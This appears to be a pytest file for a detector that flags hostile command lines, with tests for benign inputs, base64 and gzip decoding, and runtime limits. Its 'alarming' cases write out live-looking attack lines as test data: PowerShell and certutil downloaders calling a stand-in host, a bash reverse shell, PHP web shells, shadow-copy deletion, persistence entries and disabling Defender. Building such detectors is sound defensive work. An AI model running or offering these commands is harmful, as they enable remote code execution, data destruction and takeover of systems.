import base64
import gzip
import time

import pytest

from sekisho.parse.unpack.cues import cues_in, decoded

DOWNLOADER = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"


def encoded(text, codec="utf-16-le"):
    return base64.b64encode(text.encode(codec)).decode()


@pytest.mark.parametrize(
    "line",
    [
        f"powershell -nop -w hidden -enc {encoded(DOWNLOADER)}",
        f"powershell.exe /e {encoded(DOWNLOADER)}",
        f"pwsh -EncodedCommand '{encoded('Get-Date and some more of it')}'",
        DOWNLOADER,
        "I`E`X(iwr http://a.example/x)",
        "irm http://a.example/x | iex",
        'iwr http://a.example/x -OutFile a.exe; Start-Process "a.exe"',
        "certutil -urlcache -split -f http://a.example/x.exe x.exe",
        "c^ert^util -decode a.txt a.exe",
        "bitsadmin /transfer j http://a.example/x.exe %TEMP%\\x.exe",
        "mshta http://a.example/x.hta",
        'mshta vbscript:Execute("CreateObject(1)")',
        "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
        "vssadmin delete shadows /all /quiet",
        'schtasks /create /tn u /tr "powershell -file %TEMP%\\a.ps1" /sc onlogon',
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d a.exe",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "echo aGVsbG8= | base64 -d | sh",
        "exec(base64.b64decode('aGVsbG8='))",
        "exec(__import__('zlib').decompress(b'x'))",
        "<?php eval(base64_decode('aGVsbG8=')); ?>",
        "<?php system($_GET['c']); ?>",
        "x = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108)",
        'Set s = CreateObject("WScr" & "ipt.Shell")\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", u',
        f'$a = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("{encoded(DOWNLOADER)}"))',
        f"var a = '{encoded(DOWNLOADER, 'utf-8')}';",
    ],
)  # fmt: skip
def test_alarming(line):
    seen = cues_in(line)
    assert seen.alarming
    assert seen.why


@pytest.mark.parametrize(
    "line",
    [
        "echo off\r\ncopy a.txt b.txt\r\nnet use Z: \\\\server\\share",
        "powershell -ExecutionPolicy Bypass -File backup.ps1",
        "Invoke-WebRequest https://a.example/list.csv -OutFile list.csv",
        "Start-Process notepad.exe",
        'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe"',
        "The certutil tool decodes certificates.",
        "curl https://a.example/install.sh",
        "tar czf backup.tgz /home",
        "powershell -encoding utf8 -file a.ps1",
        f"data = '{base64.b64encode(bytes(range(256)) * 4).decode()}'",
        "document.write(unescape('%3Cscript'))",
        "import zlib\ndata = zlib.decompress(blob)",
        "iex icm invoke-expression invoke-command invoke-restmethod new-object",
    ],
)
def test_not_alarming(line):
    assert not cues_in(line).alarming


def test_one_layer_of_base64_is_looked_into():
    assert decoded(f"x = '{encoded('Write-Host hello and more text')}'") == ["Write-Host hello and more text"]
    packed = base64.b64encode(gzip.compress(b"a text that was packed, long enough")).decode()
    assert decoded(packed) == ["a text that was packed, long enough"]
    assert decoded(base64.b64encode(bytes(range(128, 256))).decode()) == []


def test_a_gzip_bomb_in_base64_is_cut_off():
    bomb = base64.b64encode(gzip.compress(b"a" * 100_000_000)).decode()
    assert sum(map(len, decoded(bomb))) <= 500_000


@pytest.mark.parametrize(
    "bait", ["a" * 1_000_000, "iex " * 250_000, "powershell -" * 90_000, "chr(1)&" * 140_000, "'+'" * 330_000]
)
def test_bounded(bait):
    start = time.process_time()
    cues_in(bait)
    assert time.process_time() - start < 3
